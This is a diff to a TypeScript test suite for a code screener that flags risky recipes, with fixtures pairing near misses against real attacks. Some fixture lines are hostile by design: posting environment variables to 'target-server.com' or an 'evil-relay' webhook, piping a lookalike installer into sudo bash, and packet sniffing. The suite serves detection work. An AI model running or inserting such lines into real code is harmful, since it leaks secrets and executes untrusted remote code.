@@ -383,8 +383,69 @@ describe('screenCode: a recipe whose title says what it does, or that restarts w
       'sudo systemctl stop firewalld\ncurl -I http://localhost:8080\nsudo systemctl start firewalld',
       'disable_security',
     ],
+    [
+      'sudo iptables -I OUTPUT -p tcp -d 10.0.3.15 --dport 6379 -j DROP\nsleep 300\nsudo iptables -D OUTPUT -p tcp -d 10.0.3.15 --dport 6379 -j DROP',
+      'disable_network',
+    ],
   ])('leaves alone a switch-off restarted a few lines later: %s', (code, rule) => {
     expect(ruleNames(fenced(code))).toEqual([]);
     expect(ruleNames(fenced(code.split('\n')[0]!))).toEqual([rule]);
+  });
+});
+
+describe('screenCode: near misses of the rules, each beside the attack the rule is for', () => {
+  const ruleNames = (text: string, task = '') => screenCode(text, task).map((f) => f.rule);
+
+  it('takes a function named sniff for a definition, not a capture, and still flags scapy sniffing', () => {
+    const sniffer = fenced('def sniff(path):\n    head = open(path, "rb").read(8)\n    return head.hex()', 'python');
+    expect(ruleNames(sniffer, 'Identify a file type from its magic bytes')).toEqual([]);
+    expect(ruleNames(fenced('from scapy.all import sniff\nsniff(iface="eth0", prn=log)', 'python'))).toContain(
+      'packet_capture',
+    );
+  });
+
+  it('leaves alone an environment variable that locates a file or names the destination, and flags one sent as data', () => {
+    const dumps = fenced(
+      'import glob, os, requests\nfor p in glob.glob(os.path.join(os.environ["LOCALAPPDATA"], "Acme", "*.dmp")):\n    requests.post(UPLOAD_URL, data=p)',
+      'python',
+    );
+    expect(ruleNames(dumps, 'Upload crash dumps to our symbol server')).toEqual([]);
+    const alert = fenced(
+      '$body = @{ text = "Nightly export failed on $env:COMPUTERNAME" } | ConvertTo-Json\nInvoke-RestMethod -Method Post -Uri $env:TEAMS_WEBHOOK_URL -Body $body',
+      'powershell',
+    );
+    expect(ruleNames(alert, 'Send an alert to Teams from a script')).toEqual([]);
+    const sent = fenced(
+      'import os, requests\nrequests.post("http://target-server.com", data={"path": os.environ["PATH"]})',
+      'python',
+    );
+    expect(ruleNames(sent, 'Send an alert to Teams from a script')).toEqual(['exfiltrate_env']);
+    expect(
+      ruleNames(alert.replace('$env:TEAMS_WEBHOOK_URL', 'https://hooks.evil-relay.xyz/in'), 'Fix a slow prompt'),
+    ).toEqual(['exfiltrate_env']);
+  });
+
+  it('leaves alone an installer or an API on the host the title names, and flags another host', () => {
+    const mise = fenced('curl https://mise.run | sh');
+    expect(ruleNames(mise, 'Install mise to manage tool versions')).toEqual([]);
+    expect(ruleNames(mise, 'Install the latest ripgrep')).toEqual(['pipe_to_shell']);
+    expect(
+      ruleNames(fenced('curl -sL https://rg-installer.top/get | sudo bash'), 'Install the latest ripgrep'),
+    ).toEqual(['pipe_to_shell']);
+    const deepl = fenced(
+      'strings = json.load(open("locales/en.json"))\nresp = requests.post(\n    "https://api-free.deepl.com/v2/translate",\n    data={"text": list(strings.values())},\n)',
+      'python',
+    );
+    expect(ruleNames(deepl, 'Translate UI strings with the DeepL API')).toEqual([]);
+    expect(ruleNames(deepl, 'Fix a KeyError in a dict')).toEqual(['exfiltrate_file']);
+    expect(ruleNames(fenced('curl -fsSL https://raw.githubusercontent.com/x/y/main/i.sh | sh'), 'GitHub CLI')).toEqual([
+      'pipe_to_shell',
+    ]);
+  });
+
+  it('takes uploading files as a task about files, and flags the same removal under another title', () => {
+    const code = fenced('import os\nfor name in done:\n    os.remove(name)', 'python');
+    expect(ruleNames(code, 'Upload crash dumps to our symbol server\nQA machines')).toEqual([]);
+    expect(ruleNames(code, 'KeyError when reading a dict\nPython')).toEqual(['foreign_side_effect']);
   });
 });
